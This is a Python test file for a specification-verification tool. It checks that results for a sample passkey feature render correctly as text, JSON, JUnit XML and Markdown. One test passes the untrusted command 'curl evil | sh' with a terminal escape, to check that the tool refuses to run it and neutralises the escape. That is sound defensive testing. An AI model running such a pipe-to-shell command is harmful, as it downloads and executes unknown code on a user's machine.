"""Every output of one verification that was made by hand."""

from __future__ import annotations

import json
import re
from pathlib import Path
from xml.etree import ElementTree as ET

import jsonschema
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from specward.check.report import Undetermined
from specward.evidence.judge import Proof, State
from specward.evidence.mark import TestCase
from specward.finding import Finding, Location, Position, Severity
from specward.output import verify_json, verify_junit, verify_markdown, verify_text
from specward.verify.verification import FeatureVerdict, Row, Verdict, Verification

SCHEMA = json.loads((Path(__file__).parents[2] / "docs/schemas/verify-v1.json").read_text(encoding="utf-8"))
SPEC = "specs/015-passkey/spec.md"


def proof(name: str, state: State, detail: str) -> Proof:
    return Proof(
        TestCase(id=f"tests/test_passkey.py::{name}", location=Location("tests/test_passkey.py"), marks=()),
        state,
        detail,
    )


STARTS = "tests/test_passkey.py::test_session_starts"
FINDING = Finding(
    "TRC009", "suspect-link", Severity.WARNING, "AC-004 changed since its review", Location(SPEC, Position(40, 1))
)
FEATURE = FeatureVerdict(
    "specs/015-passkey",
    "Passkey",
    (
        Row(
            *("AC-001", "a session starts", Verdict.HOLDS, STARTS, None),
            (proof("test_session_starts", State.PROVED, "passed"),),
        ),
        Row(
            *("AC-002", "wrong device is refused", Verdict.FAILS, "skipped", None),
            (proof("test_device", State.SKIPPED, "skipped"),),
        ),
        Row("AC-003", "the challenge expires", Verdict.OPEN, "no test says that it verifies this"),
    ),
    minimum=(
        Row("MIN-1", "A test can decide it", Verdict.HOLDS, "3 criteria", required=False),
        Row("MIN-2", "Errors are told", Verdict.FAILS, "nothing is", Location(SPEC), required=False),
    ),
    findings=(FINDING,),
)
VERIFICATION = Verification(
    (FEATURE,),
    (
        Row("P-03", "Test first", Verdict.HOLDS, "1 rule"),
        Row("P-05", "No secrets in logs", Verdict.FAILS, "", Location("src/auth/passkey.py", Position(88, 5))),
        Row("P-06", "Plain words", Verdict.LEFT, "judged at review"),
    ),
    sources=(".specify/evidence/pytest.jsonl",),
)
PROVED = FEATURE._replace(folder="specs/014-export", criteria=FEATURE.criteria[:1], minimum=(), findings=())


def test_in_a_narrow_terminal_the_text_goes_on_under_its_last_column() -> None:
    assert verify_text.render(VERIFICATION, width=60) == (
        " AC-001  a session starts      ✓ tests/test_passkey.py::test_session_starts\n"
        "                                 on this tree\n"
        " AC-002  wrong device is ref…  ✗ skipped on this tree\n"
        "                                 tests/test_passkey.py::test_device\n"
        " AC-003  the challenge expir…  ○ no test says that it\n"
        "                                 verifies this\n"
        " MIN-2   Errors are told       ! specs/015-passkey/spec.md:1\n"
        "                                 nothing is\n"
        " specs/015-passkey/spec.md:40:1  warning  AC-004 changed\n"
        "    since its review [TRC009]\n"
        " P-03    Test first            ✓ 1 rule\n"
        " P-05    No secrets in logs    ✗ src/auth/passkey.py:88\n"
        " P-06    Plain words           – judged at review\n"
        "not accepted: 1 of 3 criteria evidenced, 1 principle violated\n"
    )
    painted = verify_text.render(VERIFICATION, width=60, colour=True)
    assert re.sub(r"\x1b\[\d+m", "", painted) == verify_text.render(VERIFICATION, width=60)


def test_of_a_test_that_asserts_nothing_no_tree_is_told() -> None:
    row = Row(
        "AC-001", "a", Verdict.FAILS, "passed, but it asserts nothing", None, (proof("test_a", State.HOLLOW, ""),)
    )
    shown = verify_text.render(VERIFICATION._replace(features=(FEATURE._replace(criteria=(row,)),)))
    assert "✗ passed, but it asserts nothing  tests/test_passkey.py::test_a\n" in shown


def test_the_text_is_aligned_and_ends_in_what_is_missing() -> None:
    assert verify_text.render(VERIFICATION) == (
        " AC-001  a session starts         ✓ tests/test_passkey.py::test_session_starts  on this tree\n"
        " AC-002  wrong device is refused  ✗ skipped on this tree  tests/test_passkey.py::test_device\n"
        " AC-003  the challenge expires    ○ no test says that it verifies this\n"
        " MIN-2   Errors are told          ! specs/015-passkey/spec.md:1  nothing is\n"
        " specs/015-passkey/spec.md:40:1  warning  AC-004 changed since its review [TRC009]\n"
        " P-03    Test first               ✓ 1 rule\n"
        " P-05    No secrets in logs       ✗ src/auth/passkey.py:88\n"
        " P-06    Plain words              – judged at review\n"
        "not accepted: 1 of 3 criteria evidenced, 1 principle violated\n"
    )


def test_of_several_features_an_accepted_one_takes_one_line() -> None:
    text = verify_text.render(VERIFICATION._replace(features=(PROVED, FEATURE)))
    assert text.startswith(
        "✓ 014-export  1 of 1 criterion evidenced\n✗ 015-passkey  1 of 3 criteria evidenced\n AC-001"
    )
    assert "\nconstitution\n P-03" in text


def test_what_is_accepted_says_so() -> None:
    accepted = Verification((PROVED,), VERIFICATION.principles[:1])
    assert accepted.exit_code == 0
    closing = "\naccepted: 1 of 1 criterion evidenced, 1 of 1 decidable principle holds\n"
    assert verify_text.render(accepted).endswith(closing)


def test_what_could_not_be_decided_is_not_accepted() -> None:
    undecided = Verification((PROVED,), undetermined=(Undetermined("", "no test results; make some"),))
    assert undecided.exit_code == 3
    assert verify_text.render(undecided).endswith(
        " ? no test results; make some\nundetermined: 1 of 1 criterion evidenced, no test results\n"
    )


def test_a_feature_without_a_criterion_is_not_accepted() -> None:
    bare = Verification((PROVED._replace(criteria=()),))
    assert (bare.accepted, bare.exit_code) == (False, 1)
    assert "has no acceptance criterion\nnot accepted: no criterion\n" in verify_text.render(bare)


def test_where_nothing_is_asked_nothing_is_accepted() -> None:
    assert (Verification(()).accepted, Verification(()).exit_code) == (False, 3)


def test_commands_that_are_not_trusted_are_listed_with_what_mends_it() -> None:
    text = verify_text.render(VERIFICATION._replace(untrusted=("curl evil | sh\x1b[31m",)))
    assert " not trusted, not run: curl evil | sh·[31m\n  help: read them, then `spec trust`\n" in text


def test_colour_is_for_terminals_only() -> None:
    assert "\x1b[" not in verify_text.render(VERIFICATION)
    assert "\x1b[32m✓\x1b[0m" in verify_text.render(VERIFICATION, colour=True)


def test_json_is_valid_against_the_published_schema() -> None:
    full = VERIFICATION._replace(
        undetermined=(Undetermined("a.xml", "it has a DOCTYPE"),), untrusted=("make",), left_out=("specs/016-x",)
    )
    for verification in (VERIFICATION, full, Verification(())):
        value = json.loads(verify_json.render(verification))
        jsonschema.validate(value, SCHEMA)
        assert value["exit_code"] == verification.exit_code
    assert {state.value for state in State} == set(
        SCHEMA["$defs"]["row"]["properties"]["tests"]["items"]["properties"]["state"]["enum"]
    )


def test_junit_has_a_suite_for_each_feature_and_one_for_the_constitution() -> None:
    root = ET.fromstring(verify_junit.render(VERIFICATION))  # noqa: S314 -- written here
    assert [suite.get("name") for suite in root] == ["015-passkey", "constitution"]
    assert (root.get("tests"), root.get("failures"), root.get("errors"), root.get("skipped")) == ("8", "3", "0", "2")
    device = root[0][1]
    assert device.get("name") == "AC-002 wrong device is refused"
    assert [(child.tag, child.get("message")) for child in device] == [("failure", "skipped")]


def test_junit_calls_undecided_what_is_undecided() -> None:
    rows = (Row("AC-001", "x", Verdict.UNKNOWN, "no results"),)
    verification = Verification((PROVED._replace(criteria=rows),), undetermined=(Undetermined("", "no results"),))
    root = ET.fromstring(verify_junit.render(verification))  # noqa: S314 -- written here
    assert root.get("errors") == "2"


@given(st.text(max_size=60))
def test_no_words_break_out_of_an_output(words: str) -> None:
    row = Row("AC-001", words, Verdict.FAILS, words, Location(words, Position(1, 1)))
    feature = PROVED._replace(folder=f"specs/{words}", title=words, criteria=(row,))
    verification = Verification((feature,), (row,), (FINDING._replace(message=words),), untrusted=(words,))
    ET.fromstring(verify_junit.render(verification))  # noqa: S314 -- written here
    jsonschema.validate(json.loads(verify_json.render(verification)), SCHEMA)
    assert len(verify_text.render(verification).splitlines()) == 6
    html = MarkdownIt("commonmark").enable("table").render(verify_markdown.render(verification))
    assert html.count("<tr>") == 4
    assert "<a " not in html
    assert "<img" not in html


def test_a_requirement_whose_test_fails_is_no_open_check_and_what_people_judge_is_not_counted() -> None:
    direct = Row("FR-001", "it signs in", Verdict.FAILS, "failed", None, (proof("test_a", State.FAILED, "failed"),))
    stale = Row("FR-002", "it signs out", Verdict.FAILS, "stale", None, (proof("test_b", State.STALE, "stale"),))
    people = Row("P-06", "Plain words", Verdict.LEFT, "judged at review", decidable=False)
    found = Verification((PROVED._replace(direct=(direct, stale)),), (VERIFICATION.principles[0], people))
    assert verify_text.render(found).splitlines()[-1] == (
        "not accepted: 1 of 1 criterion evidenced, 1 of 1 decidable principle holds, "
        "1 requirement's test fails, 1 requirement not evidenced"
    )
